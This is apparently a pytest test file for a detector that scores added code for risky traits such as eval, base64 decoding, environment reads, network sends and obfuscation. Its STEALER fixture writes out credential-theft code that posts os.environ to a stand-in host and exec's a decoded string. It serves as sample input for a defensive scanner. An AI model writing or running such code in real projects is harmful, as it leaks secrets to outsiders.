"""What added code can do and hides: finite numbers that layout and names of files don't touch."""

import base64
import time

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hunkwise.code.lex import tokens_by_line
from hunkwise.features import edit_of
from hunkwise.features.payload import NAMES, payload

from .edits import units

STEALER = """import os, base64, requests
data = os.environ.copy()
exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))
requests.post("https://drop.example.org/x", json=data)
"""


def numbers(code: str, language: str = "python") -> dict[str, float]:
    """The payload numbers of some code by name."""
    return dict(zip(NAMES, payload(tokens_by_line(code.split("\n"), language)).tolist(), strict=True))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300) | st.text("Il1O0_x '\"\\u+%=/Aa9[(", max_size=300), st.sampled_from(["python", "javascript", "powershell"]))
def test_always_finite(text: str, language: str) -> None:
    """Of any text as many finite numbers as there are names, none below zero."""
    found = payload(tokens_by_line(text.split("\n"), language))
    assert found.shape == (len(NAMES),)
    assert found.dtype == np.float32
    assert np.all(np.isfinite(found))
    assert np.all(found >= 0)


def test_of_nothing() -> None:
    """No tokens are no reason to divide by zero."""
    assert not payload([]).any()


@settings(max_examples=50, deadline=None)
@given(st.lists(st.sampled_from(["", "   ", "\t", "# note"]), min_size=4, max_size=4), st.integers(0, 8))
def test_layout_carries_nothing(blanks: list[str], indent: int) -> None:
    """Blank lines, comments and indentation leave every number as it is."""
    shifted = "\n".join(blank + "\n" + " " * indent + line for blank, line in zip(blanks, STEALER.split("\n"), strict=False))
    assert numbers(shifted) == numbers(STEALER)


def test_line_breaks_carry_nothing() -> None:
    """Tokens on one line or on many are the same payload."""
    code = 'f(os.environ, "a" + "b", eval(x))'
    assert numbers(code) == numbers(code.replace(",", ",\n"))


def test_the_name_of_the_file_carries_nothing() -> None:
    """The same code under another path has the same numbers."""
    found = []
    for path in ("setup.py", "lib/deep/colours.py"):
        lines = [tokens for unit in units(None, STEALER, path) for _, tokens in edit_of(unit).added]
        found.append(payload(lines).tolist())
    assert found[0] == found[1]


def test_an_attack_shows_what_it_can() -> None:
    """Evaluating, decoding, reading the environment and sending are seen, alone and together; plain arithmetic shows none of it."""
    bad, good = numbers(STEALER), numbers("total = sum(prices) * (1 + rate)\nreturn round(total, 2)\n")
    for name in (
        "has evaluate",
        "has decode",
        "has environ",
        "has send",
        "evaluate and decode",
        "environ and send",
        "urls",
        "capabilities",
    ):
        assert bad[name] > 0, name
        assert good[name] == 0, name


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("encoded share", f"x = '{base64.b64encode(bytes(range(200))).decode()}'"),
        ("escape share", "x = '" + "\\x41" * 40 + "'"),
        ("obscure share", "_0x1a2b = _0x3c4d(_0x5e6f)"),
        ("concatenations", "x = 'a' + 'b' + 'c'"),
        ("hex numbers", "x = [0x41, 0x42, 0x43]"),
        ("addresses", "x = '192.0.2.7'"),
        ("executables", "x = 'setup.exe'"),
        ("places", "x = '/tmp/x'"),
        ("non-ascii share", "größe = 1"),
    ],
)
def test_what_is_hidden_is_counted(name: str, code: str) -> None:
    """Each way of hiding raises its own number above that of plain code."""
    assert numbers(code)[name] > numbers("x = [1, 2]; y = f(x, 'plain words')")[name]


def test_endless_strings_take_bounded_time() -> None:
    """A megabyte in one string is measured in a moment."""
    start = time.process_time()
    for flood in ("A" * 59 + " ", "\\x4", "http://", "1.1.1.", "_"):
        numbers("x = '" + flood * (1_000_000 // len(flood)) + "'")
    assert time.process_time() - start < 5
